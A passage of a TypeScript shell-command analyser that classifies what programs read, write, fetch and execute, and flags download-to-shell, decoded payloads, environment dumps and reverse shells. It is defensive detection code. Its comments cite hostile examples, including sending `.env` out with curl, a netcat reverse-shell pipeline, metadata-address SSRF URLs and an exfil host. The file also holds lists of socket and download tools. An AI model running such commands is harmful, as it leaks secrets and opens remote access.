/**
 * What programs do with their arguments: the knowledge that turns `cp ~/.ssh/id_rsa /tmp/x` into
 * "read ~/.ssh/id_rsa, write /tmp/x", `sudo -u x timeout 5 bash -c '…'` into the script it runs, and
 * `curl -d @.env https://x` into "read .env, send it to x".
 *
 * Unknown programs are treated conservatively: every operand and option value is a path the program may
 * read, so a secret named on any command line is seen by path rules whatever the program.
 */
import { canonicalHost, whatwgHost } from '../net/host';
import { basename, isStdinAlias, resolveLexical } from '../paths/paths';
import { DYN, type CommandFact, type RiskKind, type UrlFact } from '../types';
import type { FileOrigin, Invocation, Producer, ShellAnalyzer, State, Stdin } from './analyze';
import type { Field, Taint } from './expand';
import { allValues, has, parseArgs, value, type OptSpec, type ParsedArgs } from './options';
import { parseShell } from './parse';

type Handler = (a: ShellAnalyzer, inv: Invocation) => void;

const HANDLERS = new Map<string, Handler>();
const on = (names: string | string[], h: Handler): void => {
  for (const n of Array.isArray(names) ? names : [names]) HANDLERS.set(n, h);
};

export function dispatch(a: ShellAnalyzer, inv: Invocation, dynamicProgram: boolean): void {
  if (dynamicProgram) return generic(a, inv);
  if (inv.invokedAs.includes('/') && a.fileOrigin(inv.st, inv.invokedAs)) {
    executeFile(a, inv, f(inv.invokedAs), inv.invokedAs, 'shell');
  }
  const name = inv.program;
  const h = HANDLERS.get(name) ?? HANDLERS.get(versionless(name)) ?? familyHandler(name);
  if (h) h(a, inv);
  else generic(a, inv);
}

/** Programs that come in open-ended families (`mkfs.minix`, `docker-credential-pass`): the family's handler. */
const FAMILIES: [RegExp, string][] = [
  [/^mkfs\./, 'mkfs'],
  [/^newfs/, 'newfs'],
  [/^docker-credential-/, 'docker-credential-'],
];
function familyHandler(name: string): Handler | undefined {
  for (const [re, key] of FAMILIES) if (re.test(name)) return HANDLERS.get(key);
  return undefined;
}

/** Every program name the tables know (for tests that run each one through the analyser). */
export function knownPrograms(): string[] {
  return [...HANDLERS.keys()];
}

/** `python3.12` → `python3`, `node20` → `node`, `pip3.11` → `pip3`. */
function versionless(name: string): string {
  return name.replace(/(\d)\.\d+$/, '$1').replace(/^(node|nodejs|perl|ruby|php|lua)\d+(\.\d+)*$/, '$1');
}

// ── shared helpers ──────────────────────────────────────────────────────

const f = (text: string): Field => ({ text, dynamic: text.includes(DYN) });

function emit(a: ShellAnalyzer, inv: Invocation, p: ParsedArgs, subcommand: string[] = [], extraFlags: string[] = []): CommandFact {
  const fact: CommandFact = {
    program: inv.program,
    invokedAs: inv.invokedAs,
    args: inv.args.map((x) => x.text),
    subcommand,
    flags: [...new Set([...p.flags, ...extraFlags])],
    operands: p.operands.map((x) => x.text),
    via: inv.via,
    env: inv.env,
    depth: inv.depth,
  };
  a.command(fact);
  return fact;
}

function readAll(a: ShellAnalyzer, inv: Invocation, fields: readonly Field[], via: string, recursive = false): void {
  for (const x of fields) a.path(x, 'read', via, inv.st, { recursive });
}

/** Run fields as a command (for wrappers), one nesting level deeper. */
function wrap(a: ShellAnalyzer, inv: Invocation, fields: Field[], label: string, env: Record<string, string> = inv.env, st: State = inv.st): void {
  if (!fields.length) return;
  a.exec(fields, st, { env, stdin: inv.stdin, via: [...inv.via, label], depth: inv.depth + 1, bypassFunctions: label === 'command' || label === 'builtin' });
}

/** Analyse text a program runs as a shell script; by default it reads the program's standard input. */
function runText(a: ShellAnalyzer, inv: Invocation, text: Field | string, label: string, stdin: Stdin = inv.stdin, positional?: { zero?: Field; args: Field[] }): void {
  const fld = typeof text === 'string' ? f(text) : text;
  if (fld.taint) a.risk(fld.taint === 'download' ? 'download-to-shell' : 'decoded-to-shell', `${label} runs text from ${fld.taint === 'download' ? 'a download' : 'a decoded payload'}: ${fld.text}`);
  else if (fld.dynamic) a.risk('dynamic-eval', `${label} runs text computed at run time: ${fld.text}`);
  const st = a.clone(inv.st);
  if (positional) a.bindPositional(st, positional.args, positional.zero);
  a.runText(fld.text, st, [...inv.via, label], inv.depth + 1, label, stdin);
}

function looksLikeUrl(t: string): boolean {
  return /^[a-zA-Z][a-zA-Z0-9+.-]*:\/\//.test(t);
}

export function urlFact(raw: string, via: string, defaultScheme = 'http'): UrlFact | null {
  return urlFacts(raw, via, defaultScheme)[0] ?? null;
}

/**
 * The destinations a URL argument names. Hosts are canonical (`net/host.ts`); where the WHATWG reading of
 * the URL (what Node and browsers connect to) names another host than the plain authority split
 * (`http://169.254.169.254\\@evil.example/`, `http:/\\169.254.169.254/`), both are destinations.
 */
export function urlFacts(raw: string, via: string, defaultScheme = 'http'): UrlFact[] {
  // WHATWG parsers drop tabs and newlines anywhere in a URL.
  let text = raw.replace(/[\t\n\r]/g, '').trim();
  const out: UrlFact[] = [];
  if (!looksLikeUrl(text)) {
    const special = /^(https?|wss?|ftp):/i.test(text);
    if (!special && (!/^[A-Za-z0-9\u0080-\uffff%[\]_.-]+(:\d+)?(\/|$)/.test(text) || text.startsWith('-'))) return out;
    if (!special) text = `${defaultScheme}://${text}`;
  }
  const m = /^([a-zA-Z][a-zA-Z0-9+.-]*):\/\/(?:[^@/?#]*@)?(\[[^\]]*\]|[^:/?#]*)(?::(\d+))?/.exec(text);
  if (m) {
    // A host followed by a computed part (`http://169.254.170.2$URI`) is matched on the part that is known;
    // a computed part inside the host (`$(whoami).exfil.example`) stays in it.
    let host = m[2]!.replace(/^\[|\]$/g, '').toLowerCase();
    if (host.endsWith(DYN) && host.length > DYN.length) host = host.slice(0, host.indexOf(DYN));
    host = host.replace(/\.$/, '') || DYN;
    const fact: UrlFact = { url: text, host: canonicalHost(host), scheme: m[1]!.toLowerCase(), via };
    if (m[3]) fact.port = Number(m[3]);
    out.push(fact);
  }
  if (/^(https?|wss?|ftp):/i.test(text)) {
    const w = whatwgHost(text);
    if (w && w.host !== out[0]?.host) {
      const fact: UrlFact = { url: w.href, host: w.host, scheme: w.scheme, via };
      if (w.port) fact.port = w.port;
      out.push(fact);
    }
  }
  return out;
}

function addUrl(a: ShellAnalyzer, inv: Invocation, raw: string, via: string, sends?: UrlFact['sends'], defaultScheme?: string): void {
  for (const [i, fact] of urlFacts(raw, via, defaultScheme).entries()) {
    if (sends) fact.sends = sends;
    a.url(fact);
    if (i === 0 && fact.scheme === 'file') a.path(f(fact.url.slice('file://'.length) || '/'), 'read', `${via} file://`, inv.st);
  }
}

/** Where data an argument sends comes from: a file, the environment, a substitution, or literal text. */
function sendsOf(x: Field): NonNullable<UrlFact['sends']> {
  if (x.from?.subst) return 'substitution';
  if (x.from?.vars || x.dynamic) return 'env';
  return 'literal';
}

function stdinSends(stdin: Stdin): UrlFact['sends'] | undefined {
  switch (stdin.kind) {
    case 'none':
      return undefined;
    case 'file':
      return 'file';
    case 'text':
      return stdin.from?.subst ? 'substitution' : stdin.dynamic || stdin.from?.vars ? 'env' : 'literal';
    case 'pipe':
      return stdin.producers.some((p) => p.reads || p.files?.length) ? 'file' : 'stdin';
  }
}

/** The stronger of two ways data is sent (a file beats command output beats the environment…). */
function strongerSends(a: UrlFact['sends'], b: UrlFact['sends']): UrlFact['sends'] {
  const rank = { literal: 0, stdin: 1, env: 2, substitution: 3, file: 4 };
  if (!a) return b;
  if (!b) return a;
  return rank[b] > rank[a] ? b : a;
}

// ── stdin classification (what a shell or interpreter would execute) ──────

const NETWORK_PRODUCERS = new Set(['curl', 'wget', 'fetch', 'http', 'https', 'xh', 'aria2c', 'lwp-request', 'GET', 'nc', 'ncat', 'netcat', 'socat', 'ftp', 'tftp', 'ssh', 'scp', 'invoke-webrequest', 'iwr']);
const DECODERS: Record<string, (args: string[]) => boolean> = {
  base64: (a) => a.some((x) => /^-(\w*d\w*|D)$/.test(x) || x === '--decode'),
  base32: (a) => a.some((x) => /^-\w*d/.test(x) || x === '--decode'),
  basenc: (a) => a.some((x) => /^-\w*d/.test(x) || x === '--decode'),
  xxd: (a) => a.some((x) => /^-\w*r/.test(x) || x === '-revert'),
  uudecode: () => true,
  openssl: (a) => a.includes('-d') || a.includes('-decode') || a.includes('base64'),
  gunzip: () => true,
  zcat: () => true,
  gzip: (a) => a.some((x) => /^-\w*d/.test(x) || x === '--decompress'),
  bunzip2: () => true,
  bzcat: () => true,
  xz: (a) => a.some((x) => /^-\w*d/.test(x) || x === '--decompress'),
  unxz: () => true,
  xzcat: () => true,
  zstd: (a) => a.some((x) => /^-\w*d/.test(x) || x === '--decompress'),
  unzstd: () => true,
  rev: () => true,
  tr: () => true,
  perl: () => true,
  python: () => true,
  python3: () => true,
  node: () => true,
  ruby: () => true,
  printf: (a) => a.some((x) => /\\x[0-9a-f]|\\[0-7]{3}/i.test(x)),
  echo: (a) => a.some((x) => /^-\w*e/.test(x)),
};

export type ScriptSource =
  | { kind: 'text'; text: string; dynamic: boolean }
  | { kind: 'file'; path: string }
  /** A risk; `text` when the payload could still be recovered statically (a decoded literal). */
  | { kind: 'risk'; risk: RiskKind; detail: string; text?: { text: string; dynamic: boolean } }
  | { kind: 'none' };

export function classifyStdin(stdin: Stdin): ScriptSource {
  switch (stdin.kind) {
    case 'none':
      return { kind: 'none' };
    case 'text':
      if (stdin.taint) return { kind: 'risk', risk: stdin.taint === 'download' ? 'download-to-shell' : 'decoded-to-shell', detail: `text from ${stdin.taint === 'download' ? 'a download' : 'a decoded payload'}`, text: { text: stdin.text, dynamic: stdin.dynamic } };
      return { kind: 'text', text: stdin.text, dynamic: stdin.dynamic };
    case 'file':
      if (stdin.dynamic) return { kind: 'risk', risk: 'dynamic-shell-input', detail: `runs a file whose name is computed at run time (${stdin.path})` };
      return { kind: 'file', path: stdin.path };
    case 'pipe':
      return classifyProducers(stdin.producers);
  }
}

/** Whether a download or a decoded payload reaches this standard input (used for `$(…)` taint). */
export function stdinTaint(stdin: Stdin): Taint | undefined {
  if (stdin.kind === 'text') return stdin.taint;
  if (stdin.kind !== 'pipe') return undefined;
  const src = classifyProducers(stdin.producers);
  if (src.kind === 'risk' && src.risk === 'download-to-shell') return 'download';
  if (src.kind === 'risk' && src.risk === 'decoded-to-shell') return 'decoded';
  return undefined;
}

const isNetworkProducer = (p: Producer): boolean =>
  NETWORK_PRODUCERS.has(p.program) || !!p.netInput || p.origin?.kind === 'download' || p.risks.includes('interpreter-inline-net') || p.risks.includes('download-to-shell');

export function classifyProducers(producers: Producer[]): ScriptSource {
  const net = producers.find(isNetworkProducer);
  if (net) return { kind: 'risk', risk: 'download-to-shell', detail: `output of ${net.program} ${net.args.join(' ')}`.trim() };
  const last = producers[producers.length - 1];
  const dec = producers.find((p) => DECODERS[p.program]?.(p.args) || p.origin?.kind === 'decoded' || p.risks.includes('decoded-to-shell'));
  if (dec) {
    const src: ScriptSource = { kind: 'risk', risk: 'decoded-to-shell', detail: `decoded output of ${dec.program} ${dec.args.join(' ')}`.trim() };
    if (last?.output !== undefined) src.text = { text: last.output, dynamic: !!last.outputDynamic };
    return src;
  }
  if (last && last.output !== undefined) return { kind: 'text', text: last.output, dynamic: !!last.outputDynamic };
  if (last?.files?.length === 1) return { kind: 'file', path: last.files[0]! };
  const names = producers.map((p) => p.program).join(' | ') || 'unknown producer';
  return { kind: 'risk', risk: 'dynamic-shell-input', detail: `runs the output of ${names}` };
}

const SHELL_NAMES = new Set(['sh', 'bash', 'zsh', 'dash', 'ksh', 'mksh', 'ash', 'yash', 'fish', 'tcsh', 'csh']);
const SOCKET_TOOLS = new Set(['nc', 'ncat', 'netcat', 'nc.openbsd', 'nc.traditional', 'socat', 'telnet', 'openssl', 'cryptcat', 'pwncat']);

/**
 * Risks only a whole pipeline shows: a shell reading commands from a pipe that also contains a socket
 * tool is a reverse or bind shell (`cat fifo | sh -i | nc host port > fifo`).
 */
export function pipelineRisks(stages: Producer[][]): { kind: RiskKind; detail: string }[] {
  const all = stages.flat();
  const shell = all.find((p) => SHELL_NAMES.has(p.program) && !p.args.some((a) => /^-[a-zA-Z]*c/.test(a)) && !p.args.some((a) => !a.startsWith('-')));
  const socket = all.find((p) => SOCKET_TOOLS.has(p.program));
  if (shell && socket) return [{ kind: 'network-shell', detail: `${shell.program} is wired to ${socket.program} ${socket.args.join(' ')}`.trim() }];
  return [];
}

/** A shell or interpreter executes a script from `src`. */
function executeSource(a: ShellAnalyzer, inv: Invocation, src: ScriptSource, label: string, lang: 'shell' | 'inline'): void {
  const run = (text: string, dynamic: boolean): void => {
    if (lang === 'shell') runText(a, inv, { text, dynamic }, label, { kind: 'none' });
    else inlineCode(a, inv, text, label, dynamic);
  };
  switch (src.kind) {
    case 'none':
      return;
    case 'text':
      return run(src.text, src.dynamic);
    case 'file':
      return executeFile(a, inv, f(src.path), label, lang);
    case 'risk':
      a.risk(src.risk, `${label}: ${src.detail}`);
      if (src.text) run(src.text.text, src.text.dynamic);
  }
}

/**
 * A script file is executed (bash x.sh, ./x.sh, source x.sh, python x.py): a path fact, and when this
 * very command line wrote the file, what it wrote: literal text is analysed, a download or a decoded
 * payload is the corresponding risk.
 */
function executeFile(a: ShellAnalyzer, inv: Invocation, file: Field, label: string, lang: 'shell' | 'inline'): void {
  a.path(file, 'exec', `${label} script`, inv.st);
  a.path(file, 'read', `${label} script`, inv.st);
  const origin = a.fileOrigin(inv.st, file);
  if (!origin) return;
  if (origin.kind === 'text') executeSource(a, inv, { kind: 'text', text: origin.text, dynamic: origin.dynamic }, `${label} ${file.text}`, lang);
  else a.risk(origin.kind === 'download' ? 'download-to-shell' : 'decoded-to-shell', `${label} runs ${file.text}, written from ${origin.detail}`);
}

// ── generic and "no file" programs ──────────────────────────────────────

function generic(a: ShellAnalyzer, inv: Invocation): void {
  const p = parseArgs(inv.args);
  emit(a, inv, p);
  for (const op of p.operands) {
    if (looksLikeUrl(op.text)) addUrl(a, inv, op.text, inv.program);
    a.path(op, 'read', `${inv.program} operand`, inv.st);
  }
  for (const vals of p.values.values()) for (const v of vals) if (v.text) a.path(v, 'read', `${inv.program} option`, inv.st);
}

/** Programs whose arguments are never file names. */
const NO_FILES = [
  'true', 'false', ':', 'test', '[', 'exit', 'return', 'break', 'continue', 'shift', 'sleep', 'date', 'id',
  'hostname', 'uname', 'which', 'type', 'hash', 'kill', 'pkill', 'killall', 'jobs', 'wait', 'seq', 'yes', 'expr',
  'umask', 'ulimit', 'let', 'getopts', 'mapfile', 'readarray', 'unalias', 'clear', 'tput', 'stty', 'tty', 'nproc',
  'free', 'uptime', 'top', 'htop', 'w', 'who', 'logname', 'groups', 'disown', 'bg', 'fg', 'times', 'caller',
  'arch', 'locale', 'tzselect', 'cal', 'factor', 'bc', 'dc', 'notify-send', 'say', 'beep', 'npx-which',
];
for (const n of NO_FILES) on(n, (a, inv) => emit(a, inv, parseArgs(inv.args)));

/**
 * ps: the BSD-style letter `e` (`ps e`, `ps auxe`, `ps eww $$`; `-E` on macOS) prints every process's
 * environment. `-e` (all processes) and option values (`-o user`, `o user`) are not it.
 */
on('ps', (a, inv) => {
  emit(a, inv, parseArgs(inv.args, { short: 'oOpuUgGCtqsNkD', long: ['format', 'pid', 'ppid', 'user', 'User', 'group', 'Group', 'sort', 'cols', 'columns', 'rows', 'lines', 'width', 'tty', 'sid', 'quick-pid'] }));
  const args = inv.args;
  let dump = false;
  for (let i = 0; i < args.length; i++) {
    const t = args[i]!.text;
    if (args[i]!.dynamic) continue;
    if (t.startsWith('--')) {
      if (/^--(format|pid|ppid|user|User|group|Group|sort|cols|columns|rows|lines|width|tty|sid|quick-pid)$/.test(t)) i++;
      continue;
    }
    const bsd = !t.startsWith('-');
    if (bsd && !/^[A-Za-z]+$/.test(t)) continue;
    const letters = bsd ? t : t.slice(1);
    const takesValue = bsd ? 'oOpUtkq' : 'oOpuUgGCtqsNkD';
    for (let j = 0; j < letters.length; j++) {
      const c = letters[j]!;
      if ((bsd && c === 'e') || (!bsd && c === 'E')) dump = true;
      if (takesValue.includes(c)) {
        if (j === letters.length - 1) i++;
        break;
      }
    }
  }
  if (dump) a.risk('env-dump', `ps ${args.map((x) => x.text).join(' ')} prints the environment of processes`);
});

on('echo', (a, inv) => {
  let i = 0;
  let newline = true;
  let escapes = false;
  while (i < inv.args.length && /^-[neE]+$/.test(inv.args[i]!.text)) {
    const t = inv.args[i]!.text;
    if (t.includes('n')) newline = false;
    if (t.includes('e')) escapes = true;
    if (t.includes('E')) escapes = false;
    i++;
  }
  const words = inv.args.slice(i);
  let text = words.map((w) => w.text).join(' ');
  if (escapes) text = unescapeC(text);
  inv.output = { text: text + (newline ? '\n' : ''), dynamic: words.some((w) => w.dynamic) };
  emit(a, inv, parseArgs([]));
});

on('printf', (a, inv) => {
  const p = parseArgs(inv.args, { short: 'v', stopAtOperand: true });
  emit(a, inv, p);
  const target = value(p, '-v');
  const [fmt, ...rest] = p.rest;
  if (!fmt) return;
  const out = formatPrintf(fmt.text, rest.map((r) => r.text));
  const dynamic = fmt.dynamic || rest.some((r) => r.dynamic) || out === null;
  if (target && !target.dynamic) a.setVar(inv.st, target.text, dynamic ? { v: [], dyn: true } : { v: [out ?? ''], dyn: false });
  else inv.output = { text: out ?? DYN, dynamic };
});

on('pwd', (a, inv) => {
  emit(a, inv, parseArgs(inv.args));
  const cwd = inv.st.cwd;
  inv.output = cwd.v.length === 1 && !cwd.dyn ? { text: cwd.v[0]! + '\n', dynamic: false } : { text: DYN, dynamic: true };
});

on('whoami', (a, inv) => {
  emit(a, inv, parseArgs(inv.args));
  inv.output = { text: a.env.user + '\n', dynamic: false };
});

on(['basename', 'dirname'], (a, inv) => {
  const p = parseArgs(inv.args, { short: 's', long: ['suffix'] });
  emit(a, inv, p);
  const x = p.operands[0];
  if (!x) return;
  const t = x.text.replace(/\/+$/, '') || '/';
  let out: string;
  if (inv.program === 'dirname') out = t.includes('/') ? t.slice(0, t.lastIndexOf('/')) || '/' : '.';
  else {
    out = basename(t);
    const suffix = value(p, '-s', '--suffix')?.text ?? p.operands[1]?.text;
    if (suffix && out.endsWith(suffix) && out !== suffix) out = out.slice(0, -suffix.length);
  }
  inv.output = { text: out + '\n', dynamic: x.dynamic };
});

on(['realpath', 'readlink', 'stat', 'ls', 'tree', 'du', 'df', 'file', 'lsattr', 'getfacl', 'exa', 'eza', 'lsd'], (a, inv) => {
  const p = parseArgs(inv.args, { short: inv.program === 'stat' ? 'cf' : inv.program === 'du' ? 'dBt' : 'IPTwL' });
  emit(a, inv, p);
  for (const op of p.operands) a.path(op, 'list', `${inv.program} operand`, inv.st);
});

on(['printenv', 'compgen'], (a, inv) => {
  const p = parseArgs(inv.args);
  emit(a, inv, p);
  // `printenv NAME` prints one variable, like `echo "$NAME"`; only a whole dump is a risk.
  if (inv.program === 'printenv' && p.operands.length) return;
  if (inv.program === 'printenv' || has(p, '-v', '-e', '-A')) a.risk('env-dump', `${inv.program} prints the environment`);
});

on('set', (a, inv) => {
  const p = parseArgs(inv.args, { short: 'o' });
  emit(a, inv, p);
  if (!inv.args.length) a.risk('env-dump', 'set with no arguments prints every variable');
  // `set -- a b` and `set a b` (after options) replace the positional parameters.
  const dd = inv.args.findIndex((x) => x.text === '--');
  if (dd >= 0) a.bindPositional(inv.st, inv.args.slice(dd + 1));
  else if (p.operands.length) a.bindPositional(inv.st, p.operands);
});

on(['export', 'declare', 'typeset', 'local', 'readonly'], (a, inv) => {
  const p = parseArgs(inv.args);
  emit(a, inv, p);
  const ops = p.operands;
  if (!ops.length && (inv.program !== 'local' || has(p, '-p'))) {
    a.risk('env-dump', `${inv.program} ${inv.args.map((x) => x.text).join(' ')} lists variables`.trim());
    return;
  }
  for (const op of ops) {
    const eq = op.text.indexOf('=');
    const name = eq < 0 ? op.text : op.text.slice(0, eq);
    if (!/^[A-Za-z_][A-Za-z0-9_]*$/.test(name)) continue;
    const exporting = inv.program === 'export' || has(p, '-x');
    if (exporting) inv.st.exported.add(name);
    if (eq >= 0) {
      const val = op.text.slice(eq + 1);
      // `declare -n r=HOME`: r is another name for HOME.
      if (has(p, '-n') && /^[A-Za-z_][A-Za-z0-9_]*$/.test(val)) a.setVar(inv.st, name, a.varOf(inv.st, val));
      else a.setVar(inv.st, name, op.dynamic ? { v: [], dyn: true } : { v: [val], dyn: false });
      a.envFact({ name, value: op.dynamic ? DYN : val, via: exporting ? 'export' : 'assignment' });
      if (name === 'PATH') a.risk('shell-state-change', `${inv.program} PATH=${val}`);
      if (exporting && !op.dynamic) a.loaderEnv({ [name]: val }, inv.st);
    } else if (exporting) {
      const cur = a.varOf(inv.st, name);
      const val = cur.v.length === 1 && !cur.dyn ? cur.v[0]! : DYN;
      a.envFact({ name, value: val, via: 'export' });
      a.loaderEnv({ [name]: val }, inv.st);
    }
  }
});

on('unset', (a, inv) => {
  const p = parseArgs(inv.args);
  emit(a, inv, p);
  if (has(p, '-f')) return;
  for (const op of p.operands) if (!op.dynamic) a.setVar(inv.st, op.text, { v: [''], dyn: false });
});

on('read', (a, inv) => {
  const p = parseArgs(inv.args, { short: 'adinNptu' });
  emit(a, inv, p);
  const names = p.operands.length ? p.operands : [f('REPLY')];
  // With a known input (here-string, here-doc, echo upstream) the first line is split over the names.
  const input = stdinText(inv.stdin);
  const line = input && !input.dynamic && !value(p, '-u') ? (input.text.split('\n')[0] ?? '') : undefined;
  const words = line === undefined ? undefined : has(p, '-r') ? line.trim().split(/[ \t]+/) : line.replace(/\\(.)/g, '$1').trim().split(/[ \t]+/);
  names.forEach((n, i) => {
    if (n.dynamic) return;
    if (!words) return a.setVar(inv.st, n.text, { v: [], dyn: true });
    const v = i === names.length - 1 ? words.slice(i).join(' ') : words[i] ?? '';
    a.setVar(inv.st, n.text, { v: [v], dyn: false });
  });
  const arr = value(p, '-a');
  if (arr && !arr.dynamic) a.setVar(inv.st, arr.text, words ? { v: [words.join('\u0000')], dyn: false } : { v: [], dyn: true });
});

on(['alias'], (a, inv) => {
  const p = parseArgs(inv.args);
  emit(a, inv, p);
  for (const op of p.operands) {
    const eq = op.text.indexOf('=');
    if (eq < 0) continue;
    a.risk('shell-state-change', `alias ${op.text}`);
    runText(a, inv, { text: op.text.slice(eq + 1), dynamic: op.dynamic }, `alias ${op.text.slice(0, eq)}`);
    defineCommandAlias(a, inv, op.text.slice(0, eq), { text: op.text.slice(eq + 1), dynamic: op.dynamic });
  }
});

// `hash -p /bin/rm r`: `r` now runs /bin/rm.
on('hash', (a, inv) => {
  emit(a, inv, parseArgs(inv.args));
  const i = inv.args.findIndex((x) => x.text === '-p');
  const target = i >= 0 ? inv.args[i + 1] : undefined;
  if (!target) return;
  for (const name of inv.args.slice(i + 2)) {
    if (name.text.startsWith('-')) continue;
    a.risk('shell-state-change', `hash -p ${target.text} ${name.text}`);
    defineCommandAlias(a, inv, name.text, { text: shellQuote(target.text), dynamic: target.dynamic || name.dynamic });
  }
});

/**
 * `alias r=rm` and `hash -p /bin/rm r` make `r` run something else on later lines (Claude Code's shell
 * expands aliases). Recorded as a shell function that runs the replacement with the call's arguments, so
 * `r -rf ~` is analysed as `rm -rf ~`.
 */
function defineCommandAlias(a: ShellAnalyzer, inv: Invocation, name: string, replacement: Field): void {
  if (replacement.dynamic || name.includes(DYN)) {
    a.risk('dynamic-eval', `${inv.program} defines ${name} as a computed command`);
    return;
  }
  try {
    // `alias ls='ls -la'`: bash does not expand an alias inside its own expansion, so the inner `ls` is the
    // real one (as `command ls` skips the function this becomes).
    const first = /^\s*(\S+)/.exec(replacement.text)?.[1];
    const text = first === name ? `command ${replacement.text}` : replacement.text;
    inv.st.funcs.set(name, parseShell(`${text} "$@"`).body);
  } catch {
    a.risk('dynamic-eval', `${inv.program} ${name}: its replacement cannot be parsed`);
  }
}

on('trap', (a, inv) => {
  const p = parseArgs(inv.args, { stopAtOperand: true });
  emit(a, inv, p);
  const action = p.rest[0];
  if (action && p.rest.length > 1 && action.text !== '-' && action.text !== '') runText(a, inv, action, 'trap');
});

on(['enable'], (a, inv) => {
  const p = parseArgs(inv.args, { short: 'f' });
  emit(a, inv, p);
  const lib = value(p, '-f');
  if (lib) {
    a.risk('shell-state-change', `enable -f loads ${lib.text}`);
    a.path(lib, 'exec', 'enable -f', inv.st);
  }
});

on(['fc', 'history'], (a, inv) => {
  const p = parseArgs(inv.args, { short: 'eslnr' });
  emit(a, inv, p);
  if (inv.program === 'fc' && !has(p, '-l')) a.risk('dynamic-eval', 'fc re-runs commands from the shell history');
});

// ── directory changes ───────────────────────────────────────────────────

function resolveDirs(a: ShellAnalyzer, st: State, target: Field, prefixEnv: Record<string, string> = {}): { v: string[]; dyn: boolean } {
  if (target.dynamic || target.glob) return { v: [], dyn: true };
  const v = a.cwdList(st).map((base) => resolveLexical(base, target.text));
  let dyn = st.cwd.dyn;
  // A relative target not starting with ./ or ../ may also be found through CDPATH.
  if (!/^(\/|\.\.?(\/|$))/.test(target.text)) {
    // `CDPATH=~ cd .aws` uses the prefix assignment for this one cd.
    const prefix = prefixEnv.CDPATH;
    const cdpath = prefix === undefined ? a.varOf(st, 'CDPATH') : prefix === DYN ? { v: [], dyn: true } : { v: [prefix], dyn: false };
    if (cdpath.dyn) dyn = true;
    for (const entry of cdpath.v.flatMap((x) => x.split(':'))) if (entry) v.push(...a.cwdList(st).map((base) => resolveLexical(resolveLexical(base, entry), target.text)));
  }
  return { v: [...new Set(v)], dyn };
}

on(['cd', 'chdir'], (a, inv) => {
  const p = parseArgs(inv.args);
  emit(a, inv, p);
  const target = p.operands[0];
  inv.output = { text: '', dynamic: false };
  if (!target) return a.setCwd(inv.st, { v: [a.env.home], dyn: false });
  if (target.text === '-') return a.setCwd(inv.st, inv.st.oldpwd);
  a.setCwd(inv.st, resolveDirs(a, inv.st, target, inv.env));
});

on('pushd', (a, inv) => {
  const p = parseArgs(inv.args);
  emit(a, inv, p);
  const target = p.operands[0];
  const cur = inv.st.cwd;
  if (!target) {
    const top = inv.st.dirStack.pop() ?? { v: [], dyn: true };
    inv.st.dirStack.push(cur);
    return a.setCwd(inv.st, top);
  }
  inv.st.dirStack.push(cur);
  if (/^[+-]\d+$/.test(target.text)) return a.setCwd(inv.st, { v: [], dyn: true });
  a.setCwd(inv.st, resolveDirs(a, inv.st, target, inv.env));
});

on('popd', (a, inv) => {
  emit(a, inv, parseArgs(inv.args));
  a.setCwd(inv.st, inv.st.dirStack.pop() ?? { v: [], dyn: true });
});

// ── wrappers ────────────────────────────────────────────────────────────

on(['nohup', 'time', 'builtin', 'caffeinate', 'catchsegv', 'xvfb-run', 'dbus-launch', 'proxychains', 'proxychains4', 'torsocks', 'tsocks', 'unbuffer', 'rlwrap', 'coproc', 'nocorrect', 'noglob'], (a, inv) => {
  const p = parseArgs(inv.args, { stopAtOperand: true, short: inv.program === 'time' ? 'fo' : '' });
  emit(a, inv, p);
  wrap(a, inv, p.rest, inv.program);
});

on('command', (a, inv) => {
  const p = parseArgs(inv.args, { stopAtOperand: true });
  emit(a, inv, p);
  if (has(p, '-v', '-V')) return;
  wrap(a, inv, p.rest, 'command');
});

on('exec', (a, inv) => {
  const p = parseArgs(inv.args, { stopAtOperand: true, short: 'a' });
  emit(a, inv, p);
  wrap(a, inv, p.rest, 'exec');
});

on('nice', (a, inv) => {
  const p = parseArgs(inv.args, { stopAtOperand: true, short: 'n', long: ['adjustment'], numeric: true });
  emit(a, inv, p);
  wrap(a, inv, p.rest, 'nice');
});

on('timeout', (a, inv) => {
  const p = parseArgs(inv.args, { stopAtOperand: true, short: 'sk', long: ['signal', 'kill-after'], flags: ['--preserve-status', '--foreground', '--verbose'] });
  emit(a, inv, p);
  wrap(a, inv, p.rest.slice(1), 'timeout');
});

on('stdbuf', (a, inv) => {
  const p = parseArgs(inv.args, { stopAtOperand: true, short: 'ioe', long: ['input', 'output', 'error'] });
  emit(a, inv, p);
  wrap(a, inv, p.rest, 'stdbuf');
});

on('setsid', (a, inv) => {
  const p = parseArgs(inv.args, { stopAtOperand: true });
  emit(a, inv, p);
  wrap(a, inv, p.rest, 'setsid');
});

on('ionice', (a, inv) => {
  const p = parseArgs(inv.args, { stopAtOperand: true, short: 'cnp', long: ['class', 'classdata', 'pid', 'pgid', 'uid'] });
  emit(a, inv, p);
  if (!has(p, '-p', '-P', '-u')) wrap(a, inv, p.rest, 'ionice');
});

on(['chrt', 'taskset'], (a, inv) => {
  const p = parseArgs(inv.args, { stopAtOperand: true, short: inv.program === 'taskset' ? '' : 'T' });
  emit(a, inv, p);
  if (!has(p, '-p', '--pid')) wrap(a, inv, p.rest.slice(1), inv.program);
});

on(['chroot'], (a, inv) => {
  const p = parseArgs(inv.args, { stopAtOperand: true, long: ['userspec', 'groups'] });
  emit(a, inv, p);
  wrap(a, inv, p.rest.slice(1), 'chroot');
});

on(['unshare', 'nsenter', 'firejail', 'systemd-run', 'strace', 'ltrace', 'valgrind', 'perf', 'gdb', 'lldb', 'fakeroot', 'faketime'], (a, inv) => {
  const shortWithValue: Record<string, string> = { strace: 'oeEpPsSabuI', ltrace: 'oeEpsSanuAL', nsenter: 'tSGwr', perf: 'oe', faketime: 'f', gdb: 'xp' };
  const p = parseArgs(inv.args, { stopAtOperand: true, short: shortWithValue[inv.program] ?? '', long: ['bind', 'ro-bind', 'setenv', 'unit', 'property', 'output'] });
  emit(a, inv, p);
  const out = value(p, '-o', '--output');
  if (out) a.path(out, 'write', `${inv.program} -o`, inv.st);
  let rest = p.rest;
  if (inv.program === 'perf' && rest[0]) rest = rest.slice(1);
  if (inv.program === 'gdb' || inv.program === 'lldb') {
    if (has(p, '--args')) wrap(a, inv, rest, inv.program);
    else if (rest[0]) a.path(rest[0], 'exec', inv.program, inv.st);
    for (const ex of allValues(p, '-ex', '-x')) a.risk('interpreter-inline-exec', `${inv.program} command ${ex.text}`);
    return;
  }
  wrap(a, inv, rest, inv.program);
});

on(['sudo', 'doas', 'pkexec', 'run0'], (a, inv) => {
